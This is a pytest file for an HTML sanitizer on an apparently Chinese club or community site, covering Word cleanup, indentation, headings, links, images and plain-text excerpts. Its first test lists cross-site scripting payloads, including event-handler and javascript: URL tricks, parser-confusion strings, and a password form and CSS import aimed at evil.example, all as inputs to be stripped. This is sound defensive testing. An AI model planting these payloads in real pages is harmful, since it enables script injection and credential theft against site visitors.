"""The one policy of rich text: what acts is gone, what is said stays, the house's
shape is given."""

import pytest

from common import richtext
from common.richtext import Node
from common.templatetags.richtext import richtext as show

WORD = """<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></xml><![endif]-->
<style>@font-face{font-family:SimSun} p.MsoNormal{mso-style-parent:""}</style>
<p class=MsoNormal style='text-indent:24.0pt;mso-char-indent-count:2.0'><span lang=EN-US
style='font-family:SimSun;mso-hansi-font-family:Calibri'>　　新学期<o:p></o:p></span></p>
<p class="MsoNormal"><b style='mso-bidi-font-weight:normal'>开班</b></p>"""


@pytest.mark.parametrize(
    "typed",
    [
        "<script>alert(1)</script>",
        "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
        "<img src=x onerror=alert(1)>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' &#106;avascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<svg><script>alert(1)</script><animate onbegin=alert(1)></svg>",
        "<svg><foreignObject><iframe src='javascript:alert(1)'></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></math>",
        "<iframe src='https://evil.example'></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action='//evil.example'><input name=password><button>x</button></form>",
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<style>@import 'https://evil.example'</style>",
        "<base href='https://evil.example'><meta http-equiv=refresh content=0>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><script>alert(1)</script></template>",
        "<p>a<!-- --!><script>alert(1)</script> --></p>",
        '<p title="&quot;><script>alert(1)</script>">x</p>',
        "<h2>&lt;script&gt;</h2><a title='\"onclick=alert(1)' href='/x'>x</a>",
    ],
)
def test_clean_nothing_that_acts_is_stored(typed):
    stored = richtext.clean(typed)

    node = richtext.parse(stored)
    for element in node.walk():
        assert element.tag in {"", "p", "h2", "a", "strong", "table", "div", "tbody"}
        assert element.attributes.keys() <= {"href", "rel", "title", "class"}
        assert ":" not in element.attributes.get("href", "")
    assert "alert(1)</script>" not in stored
    assert richtext.clean(stored) == stored


def test_clean_what_word_leaves_behind_goes_and_its_words_stay():
    assert richtext.clean(WORD) == "<p>新学期</p><p><strong>开班</strong></p>"


@pytest.mark.parametrize(
    "indent",
    ["　　", "&nbsp;&nbsp;&nbsp;&nbsp;", "&emsp;&emsp;", " \n　&nbsp;", "&#8203;　"],
)
def test_clean_drops_a_typed_indent_for_the_stylesheets(indent):
    assert richtext.clean(f"<p>{indent}正文</p>") == "<p>正文</p>"
    assert richtext.clean(f"<p><em>{indent}正文</em></p>") == "<p><em>正文</em></p>"
    assert richtext.clean(f"<h2>{indent}题　目</h2>") == "<h2>题　目</h2>"


def test_clean_blanks_inside_a_paragraph_are_the_authors():
    text = "<p>初心　使命&nbsp;再出发</p>"

    assert richtext.clean(text) == text


def test_clean_paragraph_that_opens_with_a_dash_has_its_lead_in_bold():
    typed = "<p>　　——搭好台子，唱好戏。后面的话。</p>"
    stored = richtext.clean(typed)

    assert stored == "<p>——<strong>搭好台子，唱好戏。</strong>后面的话。</p>"
    assert richtext.clean(stored) == stored
    assert richtext.parse(stored).text == "——搭好台子，唱好戏。后面的话。"


@pytest.mark.parametrize(
    "text",
    [
        "<p>——没有句号的话</p>",
        "<p>——<em>已有</em>标记。后面</p>",
        "<p>话——中间。</p>",
        "<p>——。</p>",
    ],
)
def test_clean_other_dashes_stay_as_they_are(text):
    assert richtext.clean(text) == text


def test_clean_makes_foreign_shapes_the_houses():
    typed = "<h1>一</h1><h4>二</h4><div>三<div>四</div></div>五<br>六<b>七</b><i>八</i>"

    assert richtext.clean(typed) == (
        "<h2>一</h2><h3>二</h3><p>三</p><p>四</p><p>五</p>"
        "<p>六<strong>七</strong><em>八</em></p>"
    )


def test_clean_empty_paragraphs_go():
    assert richtext.clean("<p>　</p><p>&nbsp;</p><p>有</p><h2> </h2>") == "<p>有</p>"


def test_clean_links_cannot_reach_back_and_only_known_classes_stay():
    stored = richtext.clean(
        '<p class="noindent MsoNormal evil"><a href="https://a.example/" target="_blank"'
        ' class="button">链接</a></p>'
    )

    assert stored == (
        '<p class="noindent"><a href="https://a.example/" '
        'rel="noopener noreferrer">链接</a></p>'
    )


def test_clean_table_scrolls_in_its_own_box():
    stored = richtext.clean("<table><tr><th>班</th></tr><tr><td>茶艺</td></tr></table>")

    assert stored.startswith('<div class="table-scroll"><table>')
    assert richtext.clean(stored) == stored
    assert 'tabindex="0" role="region" aria-label="表格' in show(stored)


def figure(name):
    return Node("figure", {"class": "fig"}, [Node("img", {"src": f"/p/{name}.jpg"})])


@pytest.mark.parametrize(
    "typed",
    [
        '<figure class="x"><img data-file="k" src="/a"><figcaption>z</figcaption></figure>',
        '<p><img data-file="k" src="/a"></p>',
        '<img data-file="k" srcset="https://evil.example/x 1x">',
    ],
)
def test_clean_picture_is_drawn_by_the_house(typed):
    stored = richtext.clean(typed, figure)

    assert stored == '<figure class="fig"><img src="/p/k.jpg"></figure>'


def test_clean_picture_in_a_sentence_follows_it():
    stored = richtext.clean('<p>前<img data-file="k">后</p>', figure)

    assert stored == '<p>前后</p><figure class="fig"><img src="/p/k.jpg"></figure>'


def test_clean_pictures_of_other_sites_are_dropped():
    assert (
        richtext.clean('<p>字<img src="https://t.example/pixel.gif"></p>')
        == "<p>字</p>"
    )
    assert richtext.pictures('<img data-file="a"><p><img data-file="b"><img></p>') == [
        "a",
        "b",
    ]


@pytest.mark.parametrize(
    ("limit", "words"),
    [
        (0, "座谈会召开。大家说：“好。”会后 散步一小时"),
        (100, "座谈会召开。大家说：“好。”会后 散步一小时"),
        (16, "座谈会召开。大家说：“好。”"),
        (12, "座谈会召开。"),
        (13, "座谈会召开。大家说：“好。……"),
        (5, "座谈会召开……"),
    ],
)
def test_plain_text_stops_where_a_sentence_does(limit, words):
    """Half of the limit in whole sentences is enough; less is cut and marked."""
    stored = richtext.clean(
        "<p>座谈会召开。</p><p>大家说：“好。”</p><p>会后</p><p>散步一小时</p>"
    )

    assert richtext.plain(stored, limit) == words


def test_plain_text_leaves_headings_and_captions_out_and_stops_in_time():
    stored = richtext.clean(
        '<h2>题</h2><figure><img data-file="k"><figcaption>图</figcaption></figure>'
        "<p>一二三四五</p>",
        figure,
    )

    assert richtext.plain(stored) == "一二三四五"
    assert richtext.plain(stored, 4) == "一二三四……"


def test_plain_text_says_each_word_of_a_nested_list_once():
    """It stands in lists, in the page's description and in the feed."""
    stored = richtext.clean(
        "<p>参加者请带：</p><ul><li><p>会员证</p></li><li><p>水杯</p>"
        "<ul><li><p>不锈钢的</p></li></ul></li></ul><table><tr><th><p>班</p></th>"
        "<td><p>一</p><p>二</p></td></tr></table><p>谢谢。</p>"
    )

    assert richtext.plain(stored) == "参加者请带：会员证 水杯 不锈钢的 班 一 二 谢谢。"


@pytest.mark.parametrize(
    ("typed", "whole"),
    [
        ("https://example.com/a?b=1&c", "https://example.com/a?b=1&c"),
        ("//example.com/x", "https://example.com/x"),
        ("www.example.com/baoming", "https://www.example.com/baoming"),
        ("例子.中国/路径", "https://例子.中国/路径"),
        ("mailto:a@b.cn", "mailto:a@b.cn"),
        ("/news/3/", ""),
        ("#jump", ""),
        ("ftp://x/y", ""),
        ("file:///C:/a.doc", ""),
        ("http:/news/3/", ""),
        ("报名表.zip", ""),
        ("java\nscript:alert(1)", ""),
    ],
)
def test_clean_links_lead_somewhere_or_their_words_stay(typed, whole):
    link = f'<p><a href="{typed}">字</a></p>'

    assert richtext.address(typed) == whole
    assert ("href" in richtext.clean(link)) == bool(whole)
    assert bool(richtext.link_reasons(link, "body")) != bool(whole)
